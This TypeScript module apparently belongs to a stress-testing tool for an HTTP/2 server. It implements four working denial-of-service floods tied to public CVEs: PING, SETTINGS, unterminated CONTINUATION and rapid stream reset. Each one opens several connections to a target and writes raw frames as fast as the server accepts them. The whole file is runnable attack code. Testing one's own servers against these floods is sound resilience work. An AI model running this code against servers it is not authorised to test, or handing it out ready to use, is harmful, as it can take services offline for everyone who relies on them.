// Floods of frames that cost the server work and the client next to nothing: PING and SETTINGS that have to be acknowledged
// (CVE-2019-9512, 9515), CONTINUATION without an end (CVE-2024-27316), streams that are reset at once (CVE-2023-44487).
import type { Attack, Target } from './attack.ts';
import { connect, repeat, send } from './connection.ts';
import { END_HEADERS, END_STREAM, fields, frame, OPENING, request, SETTINGS, TYPE } from './frames.ts';

const CONNECTIONS = 4;
const PER_WRITE = 1_000;

/** Sends what `next` gives as fast as the server takes it, over a new connection whenever one has ended. */
async function flood(target: Target, opening: Buffer, next: () => Buffer): Promise<string> {
  let frames = 0;
  const connections = await repeat(target, CONNECTIONS, async () => {
    const socket = await connect(target);
    if (socket === undefined) return;
    socket.write(opening);
    while (await send(socket, next())) frames += PER_WRITE;
  });
  return `${frames} frames over ${connections} connections`;
}

const many = (one: Buffer) => Buffer.concat(new Array<Buffer>(PER_WRITE).fill(one));

export const pingFlood: Attack = {
  title: 'PING flood',
  run(target) {
    const pings = many(frame(TYPE.ping, 0, 0, Buffer.alloc(8)));
    return flood(target, OPENING, () => pings);
  },
};

export const settingsFlood: Attack = {
  title: 'SETTINGS flood',
  run(target) {
    const settings = many(SETTINGS);
    return flood(target, OPENING, () => settings);
  },
};

export const continuationFlood: Attack = {
  title: 'CONTINUATION flood',
  short: true,
  run(target) {
    const opening = Buffer.concat([OPENING, frame(TYPE.headers, END_STREAM, 1, request('GET', '/v1/health'))]);
    const more = many(frame(TYPE.continuation, 0, 1, fields([['x', 'y'.repeat(100)]])));
    return flood(target, opening, () => more);
  },
};

export const rapidReset: Attack = {
  title: 'rapid reset',
  short: true,
  async run(target) {
    let frames = 0;
    const cancel = Buffer.of(0, 0, 0, 8);
    const head = request('GET', '/v1/components');
    const connections = await repeat(target, CONNECTIONS, async () => {
      const socket = await connect(target);
      if (socket === undefined) return;
      socket.write(OPENING);
      for (let stream = 1; !socket.destroyed; ) {
        const pairs: Buffer[] = [];
        for (let n = 0; n < PER_WRITE; n++, stream += 2) {
          pairs.push(frame(TYPE.headers, END_HEADERS | END_STREAM, stream, head), frame(TYPE.reset, 0, stream, cancel));
        }
        if (!(await send(socket, Buffer.concat(pairs)))) return;
        frames += PER_WRITE;
      }
    });
    return `${frames} streams over ${connections} connections`;
  },
};
